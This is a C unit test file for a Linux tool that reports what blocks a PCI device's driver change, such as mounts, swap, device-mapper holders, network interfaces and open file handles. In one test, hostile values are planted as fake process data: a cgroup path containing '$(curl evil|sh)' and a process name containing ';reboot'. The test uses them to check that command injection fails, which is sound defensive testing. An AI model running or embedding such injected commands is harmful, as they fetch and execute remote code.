/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Interfaces, block devices and openers of a device, and which of them block a change of driver. */
#include "../obstacles.h"

#include <errno.h>

#include "model/machine/device.h"
#include "util/array.h"

#define NVME      "pci0000:00/0000:00:08.0/0000:01:00.0"
#define NVME_PATH "/sys/devices/" NVME
#define NVME_ROOT "sys/devices/" NVME "/"

static const struct device_block *find(const struct device *device, const char *name)
{
	for (size_t i = 0; i < device->n_blocks; i++)
		if (strcmp(device->blocks[i].name, name) == 0)
			return &device->blocks[i];
	fail_msg("no block device %s", name);
	return NULL;
}

/* A block device at sys/devices/PLACE with the device number DEV. */
static void add_block(const struct tree *tree, const char *place, const char *dev)
{
	const char *name = strrchr(place, '/') + 1;
	char path[256], target[256];

	snprintf(path, sizeof(path), "sys/devices/%s/dev", place);
	tree_file(tree, path, dev);
	snprintf(path, sizeof(path), "sys/class/block/%s", name);
	snprintf(target, sizeof(target), "../../devices/%s", place);
	tree_link(tree, path, target);
}

/* A disk with two partitions; the second has a device-mapper device with the root file system. */
static void make_disk(const struct tree *tree)
{
	tree_pci(tree, NVME, "3", "PCI_CLASS=10802\n");
	add_block(tree, NVME "/nvme/nvme0/nvme0n1", "259:0\n");
	add_block(tree, NVME "/nvme/nvme0/nvme0n1/nvme0n1p1", "259:1\n");
	add_block(tree, NVME "/nvme/nvme0/nvme0n1/nvme0n1p2", "259:2\n");
	add_block(tree, "virtual/block/dm-0", "252:0\n");
	add_block(tree, "virtual/block/loop0", "7:0\n");
	tree_link(tree, "sys/devices/" NVME "/nvme/nvme0/nvme0n1/nvme0n1p2/holders/dm-0", "x");
	tree_file(tree, "sys/devices/virtual/block/dm-0/dm/name", "vg-root\n");
	tree_file(tree, "sys/devices/virtual/block/dm-0/dm/uuid", "CRYPT-LUKS2-1\n");
	tree_file(tree, "proc/swaps", "Filename Type\n");
	tree_file(tree, "proc/self/mountinfo",
		  "1 0 0:30 / / rw - btrfs /dev/mapper/vg-root rw\n"
		  "2 1 0:30 /home /home rw - btrfs /dev/mapper/vg-root rw\n"
		  "3 1 259:1 / /boot rw - ext4 /dev/root rw\n"
		  "4 1 7:0 / /mnt rw - ext4 /dev/loop0 rw\n");
}

static void reads_blocks(void **state)
{
	const struct tree *tree = *state;
	_cleanup_device_ struct device device = { 0 };

	make_disk(tree);
	assert_int_equal(device_get(&tree->root, NVME_PATH, DEVICE_NEED_BLOCK, &device), 0);
	assert_int_equal(device.blocks_status, 1);
	assert_int_equal(device.n_blocks, 4);
	assert_null(find(&device, "nvme0n1")->parent);
	assert_string_equal(find(&device, "nvme0n1p1")->parent, "nvme0n1");
	assert_false(find(&device, "nvme0n1p1")->stacked);
	assert_int_equal(find(&device, "nvme0n1p1")->mounts.n, 1);
	assert_string_equal(find(&device, "nvme0n1p1")->mounts.v[0], "/boot");
	assert_int_equal(find(&device, "nvme0n1p2")->mounts.n, 0);
	assert_string_equal(find(&device, "dm-0")->parent, "nvme0n1p2");
	assert_true(find(&device, "dm-0")->stacked);
	assert_int_equal(find(&device, "dm-0")->mounts.n, 2);
	assert_int_equal(find(&device, "dm-0")->uses_status, 1);
}

static void finds_multipath(void **state)
{
	const struct tree *tree = *state;
	_cleanup_device_ struct device device = { 0 };

	tree_pci(tree, NVME, "3", "");
	add_block(tree, NVME "/nvme/nvme3/nvme2c3n1", "259:0\n");
	add_block(tree, "virtual/nvme-subsystem/nvme-subsys2/nvme2n1", "259:1\n");
	add_block(tree, "virtual/nvme-subsystem/nvme-subsys2/nvme2n1/nvme2n1p1", "259:2\n");
	tree_file(tree, "proc/self/mountinfo", "1 0 259:2 / / rw - xfs /dev/nvme2n1p1 rw\n");
	assert_int_equal(device_get(&tree->root, NVME_PATH, DEVICE_NEED_BLOCK, &device), 0);
	assert_int_equal(device.n_blocks, 3);
	assert_string_equal(find(&device, "nvme2n1")->parent, "nvme2c3n1");
	assert_string_equal(find(&device, "nvme2n1p1")->mounts.v[0], "/");
}

/* Circular holders must not be followed forever. */
static void survives_circles(void **state)
{
	const struct tree *tree = *state;
	_cleanup_device_ struct device device = { 0 };

	make_disk(tree);
	tree_link(tree, "sys/devices/virtual/block/dm-0/holders/nvme0n1p2", "x");
	tree_link(tree, "sys/devices/virtual/block/dm-0/holders/dm-0", "x");
	tree_link(tree, "sys/devices/virtual/block/dm-0/holders/dm-9", "x");
	assert_int_equal(device_get(&tree->root, NVME_PATH, DEVICE_NEED_BLOCK, &device), 0);
	assert_int_equal(device.n_blocks, 5);
	assert_int_equal(find(&device, "dm-9")->uses_status, -ENOENT);
}

/* The obstacles to changing the device's driver. */
static void guard(const struct tree *tree, const char *expected)
{
	_cleanup_finding_list_ struct finding_list list = { 0 };

	assert_int_equal(driver_guard(&tree->root, NVME_PATH, &list), 0);
	obstacles_check(&list, "0000:01:00.0", expected);
}

/* Without a block device's number, a mount under another name would be missed. */
static void says_when_a_disk_has_no_numbers(void **state)
{
	static const struct {
		const char *dev;
		int status;
	} cases[] = { { "259:1\n", 1 },
		      { "1234567890123456789012345678:12\n", -E2BIG },
		      { "123456789012345678901234567:12\n", 1 },
		      { NULL, -EACCES } };
	const struct tree *tree = *state;

	make_disk(tree);
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		static const char dev[] = NVME_ROOT "nvme/nvme0/nvme0n1/nvme0n1p1/dev";
		_cleanup_device_ struct device device = { 0 };

		if (cases[i].dev) {
			tree_file(tree, dev, cases[i].dev);
		} else {
			assert_int_equal(unlinkat(tree->root.fd, dev, 0), 0);
			tree_link(tree, dev, "errno:13");
		}
		assert_int_equal(device_get(&tree->root, NVME_PATH, DEVICE_NEED_BLOCK, &device), 0);
		assert_int_equal(find(&device, "nvme0n1p1")->uses_status, cases[i].status);
		assert_int_equal(find(&device, "nvme0n1p1")->mounts.n, i == 0 ? 1 : 0);
		assert_int_equal(find(&device, "nvme0n1p2")->uses_status, 1);
		assert_int_equal(device.blocks_status, 1);
	}
	/* If mounts cannot be read at all, that is reported. */
	assert_int_equal(unlinkat(tree->root.fd, "proc/self/mountinfo", 0), 0);
	{
		_cleanup_device_ struct device device = { 0 };

		assert_int_equal(device_get(&tree->root, NVME_PATH, DEVICE_NEED_BLOCK, &device), 0);
		assert_int_equal(find(&device, "nvme0n1p1")->uses_status, -ENOENT);
	}
}

static void guards_disks(void **state)
{
	const struct tree *tree = *state;

	make_disk(tree);
	tree_file(tree, "proc/self/mountinfo",
		  "1 0 259:1 / /my\\040boot rw - ext4 /dev/nvme0n1p1 rw\n"
		  "2 0 259:1 / /it's rw - ext4 /dev/nvme0n1p1 rw\n"
		  "3 0 259:1 / /a\\012b rw - ext4 /dev/nvme0n1p1 rw\n");
	tree_file(tree, "proc/swaps", "Filename\n/dev/dm-0 partition 1 2 3\n");
	guard(tree, "mount: /dev/nvme0n1p1 is mounted on /my boot [umount '/my boot']\n"
		    "mount: /dev/nvme0n1p1 is mounted on /it's [umount '/it'\\''s']\n"
		    "mount: /dev/nvme0n1p1 is mounted on /a\nb\n"
		    "swap: /dev/dm-0 is in use as swap [swapoff /dev/dm-0]\n"
		    "stacked: /dev/nvme0n1p2 is held by dm-0 (vg-root) "
		    "[cryptsetup close vg-root]\n");
}

static void says_what_it_cannot_tell(void **state)
{
	const struct tree *tree = *state;
	char place[256];

	make_disk(tree);
	assert_int_equal(unlink(tree_place(tree, "proc/self/mountinfo", place, sizeof(place))), 0);
	tree_link(tree, "sys/class/net", "errno:13");
	guard(tree,
	      "unknown network: the network interfaces could not be read: Permission denied\n"
	      "unknown mount: /dev/nvme0n1 could not be read: No such file or directory\n"
	      "unknown mount: /dev/nvme0n1p1 could not be read: No such file or directory\n"
	      "unknown mount: /dev/nvme0n1p2 could not be read: No such file or directory\n"
	      "unknown mount: /dev/dm-0 could not be read: No such file or directory\n"
	      "stacked: /dev/nvme0n1p2 is held by dm-0 (vg-root) [cryptsetup close vg-root]\n");
}

static void guards_networks(void **state)
{
	const struct tree *tree = *state;
	_cleanup_device_ struct device device = { 0 };

	tree_pci(tree, NVME, "3", "PCI_CLASS=20000\n");
	tree_file(tree, NVME_ROOT "virtio0/net/eth0/flags", "0x1003\n");
	tree_file(tree, NVME_ROOT "net/eth1/flags", "0x1002\n");
	tree_file(tree, NVME_ROOT "0000:02:00.0/net/eth2/flags", "0x1003\n");
	tree_link(tree, "sys/class/net/eth0", "../../devices/" NVME "/virtio0/net/eth0");
	tree_link(tree, "sys/class/net/eth1", "../../devices/" NVME "/net/eth1");
	tree_link(tree, "sys/class/net/eth2", "../../devices/" NVME "/0000:02:00.0/net/eth2");
	tree_link(tree, NVME_ROOT "virtio0/net/eth0/master", "../../virtual/net/br0");
	tree_file(tree, "sys/class/net/bonding_masters", "");
	assert_int_equal(device_get(&tree->root, NVME_PATH, DEVICE_NEED_NET, &device), 0);
	assert_int_equal(device.n_nets, 2);
	assert_string_equal(device.nets[0].name, "eth0");
	assert_int_equal(device.nets[0].up.value, 1);
	assert_int_equal(device.nets[1].up.value, 0);
	guard(tree, "network: eth0 is up and a part of br0 [ip link set dev eth0 down]\n");
}

static void guards_functions(void **state)
{
	const struct tree *tree = *state;

	tree_pci(tree, NVME, "3", "PCI_CLASS=60400\n");
	tree_file(tree, NVME_ROOT "sriov_totalvfs", "8\n");
	tree_file(tree, NVME_ROOT "sriov_numvfs", "4\n");
	tree_dir(tree, NVME_ROOT "net");
	guard(tree, "bridge: it is a pci bridge\n"
		    "virtual-functions: it has 4 virtual functions [echo 0 > " NVME_PATH
		    "/sriov_numvfs]\n"
		    "network: a network interface of it is in another network namespace\n");
}

static void guards_openers(void **state)
{
	const struct tree *tree = *state;
	_cleanup_device_ struct device device = { 0 };

	tree_pci(tree, NVME, "3", "DRIVER=vfio-pci\n");
	tree_dir(tree, NVME_ROOT "vfio-dev/vfio7");
	tree_link(tree, "sys/class/vfio/3", "../../devices/virtual/vfio/3");
	tree_file(tree, "proc/812/comm", "qemu\n");
	tree_link(tree, "proc/812/fd/9", "/dev/vfio/devices/vfio7");
	tree_link(tree, "proc/812/fd/10", "/dev/vfio/devices/vfio7");
	tree_link(tree, "proc/812/fd/11", "/dev/vfio/devices/vfio70");
	tree_file(tree, "proc/813/comm", "dpdk\n");
	tree_file(tree, "proc/813/cgroup", "0::/system.slice/dpdk.service\n");
	tree_link(tree, "proc/813/fd/3", "/dev/vfio/3");
	tree_link(tree, "proc/814/fd/3", "/dev/vfio/3"); /* has ended: no comm */
	assert_int_equal(device_get(&tree->root, NVME_PATH, DEVICE_NEED_OPENERS, &device), 0);
	assert_int_equal(device.openers_status, 1);
	assert_int_equal(device.n_openers, 2);
	assert_int_equal(device.openers[0].pid, 812);
	assert_string_equal(device.openers[0].node, "/dev/vfio/devices/vfio7");
	assert_string_equal(device.openers[1].unit, "dpdk.service");
	guard(tree, "in-use: process 812 (qemu) has /dev/vfio/devices/vfio7 open [kill 812] (812)\n"
		    "in-use: process 813 (dpdk) has /dev/vfio/3 open "
		    "[systemctl stop dpdk.service] (813)\n");
}

/* Processes of a malicious user, and hints with their names. */
static void guards_against_names(void **state)
{
	const struct tree *tree = *state;

	tree_pci(tree, NVME, "3", "DRIVER=vfio-pci\n");
	tree_dir(tree, NVME_ROOT "vfio-dev/vfio7");
	tree_file(tree, "proc/811/comm", "ioasid:;reboot\n");
	tree_file(tree, "proc/812/comm", "x\n");
	tree_file(tree, "proc/812/cgroup", "0::/$(curl evil|sh).service\n");
	tree_file(tree, "proc/813/comm", "x\n");
	tree_file(tree, "proc/813/cgroup",
		  "0::/user.slice/user-1000.slice/user@1000.service/sshd.service\n");
	for (int pid = 811; pid <= 813; pid++) {
		char path[64];

		snprintf(path, sizeof(path), "proc/%d/fd/3", pid);
		tree_link(tree, path, "/dev/vfio/devices/vfio7");
	}
	guard(tree, "in-use: process 811 (ioasid:;reboot) has /dev/vfio/devices/vfio7 open (811)\n"
		    "in-use: process 812 (x) has /dev/vfio/devices/vfio7 open [kill 812] (812)\n"
		    "in-use: process 813 (x) has /dev/vfio/devices/vfio7 open [kill 813] (813)\n");
}

static void guards_disks_that_are_open(void **state)
{
	const struct tree *tree = *state;

	tree_pci(tree, NVME, "3", "DRIVER=nvme\n");
	add_block(tree, NVME "/nvme/nvme0/nvme0n1", "259:0\n");
	add_block(tree, NVME "/nvme/nvme0/nvme0n1/nvme0n1p1", "259:1\n");
	add_block(tree, "virtual/block/loop0", "7:0\n");
	tree_link(tree, "sys/class/nvme/nvme0", "../../devices/" NVME "/nvme/nvme0");
	tree_link(tree, "sys/class/nvme/nvme1", "../../devices/pci0000:00/0000:00:09.0/nvme/nvme1");
	tree_link(tree, "sys/class/nvme-generic/ng0n1", "../../devices/" NVME "/nvme/nvme0/ng0n1");
	tree_file(tree, "proc/swaps", "");
	tree_file(tree, "proc/self/mountinfo", "");
	tree_file(tree, "proc/812/comm", "qemu\n");
	tree_link(tree, "proc/812/fd/9", "/dev/nvme0n1p1");
	tree_link(tree, "proc/812/fd/10", "/dev/nvme0n1p2");
	tree_link(tree, "proc/812/fd/11", "/dev/nvme1");
	tree_link(tree, "proc/812/fd/12", "/dev/loop0");
	tree_file(tree, "proc/813/comm", "nvme\n");
	tree_link(tree, "proc/813/fd/3", "/dev/nvme0");
	tree_file(tree, "proc/814/comm", "fio\n");
	tree_link(tree, "proc/814/fd/3", "/dev/ng0n1");
	guard(tree, "in-use: process 812 (qemu) has /dev/nvme0n1p1 open [kill 812] (812)\n"
		    "in-use: process 813 (nvme) has /dev/nvme0 open [kill 813] (813)\n"
		    "in-use: process 814 (fio) has /dev/ng0n1 open [kill 814] (814)\n");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		tree_test(reads_blocks),
		tree_test(finds_multipath),
		tree_test(survives_circles),
		tree_test(says_when_a_disk_has_no_numbers),
		tree_test(guards_disks),
		tree_test(guards_networks),
		tree_test(says_what_it_cannot_tell),
		tree_test(guards_functions),
		tree_test(guards_openers),
		tree_test(guards_against_names),
		tree_test(guards_disks_that_are_open),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
